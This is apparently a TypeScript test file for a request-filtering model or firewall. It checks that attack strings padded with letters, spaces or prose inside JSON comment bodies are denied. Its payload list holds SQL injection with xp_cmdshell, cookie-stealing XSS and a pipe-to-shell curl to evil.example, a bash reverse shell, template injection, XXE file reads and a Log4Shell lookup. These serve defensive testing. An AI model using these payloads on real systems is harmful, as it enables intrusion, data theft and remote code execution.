import assert from "node:assert/strict";
import { before, describe, it } from "node:test";
import { openShippedPath, type ShippedPath } from "../../scripts/model/shipped-path.ts";

const attacks = [
  "1' UNION ALL SELECT username,password,null FROM users WHERE '1'='1' -- -",
  "'; WAITFOR DELAY '0:0:10'; EXEC xp_cmdshell('whoami') --",
  '"><script>document.location="https://evil.example/?c="+document.cookie</script>',
  "<img src=x onerror=alert(document.cookie)><svg onload=alert(1)>",
  "../../../../../../../../../../etc/passwd",
  "; cat /etc/passwd; curl http://evil.example/x | sh",
  "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template for others than this file
  "${jndi:ldap://evil.example:1389/a}",
];

const paddings: Record<string, string> = {
  letters: "a",
  spaces: " ",
  prose: "Thanks for the quick answer. I'd like to change my order, if that is still possible. ",
};

/** Of thirty: thresholds grow with a value's length, so that documents are spared; the model card says what that costs. */
const MOST_PASSED = 1;

describe("strong attacks are denied behind, before and within padding", () => {
  let path: ShippedPath;
  before(async () => {
    path = await openShippedPath();
  });

  for (const [name, unit] of Object.entries(paddings)) {
    for (const size of [300, 8 * 1024, 64 * 1024]) {
      it(`${size} bytes of ${name}`, async () => {
        const padding = unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
        const passed: string[] = [];
        for (const attack of attacks) {
          for (const value of [padding + attack, attack + padding, `${padding} ${attack} ${padding}`]) {
            const body = Buffer.from(JSON.stringify({ note: value }));
            const headers = [["content-type", "application/json"]] as const;
            const request = { method: "POST", authority: "shop.example", path: "/comments", headers, body };
            const { verdict } = await path.judge(request);
            if (verdict.effect !== "deny") passed.push(attack);
          }
        }
        assert.ok(passed.length <= MOST_PASSED, `${passed.length} of ${3 * attacks.length}: ${passed.join("\n")}`);
      });
    }
  }
});
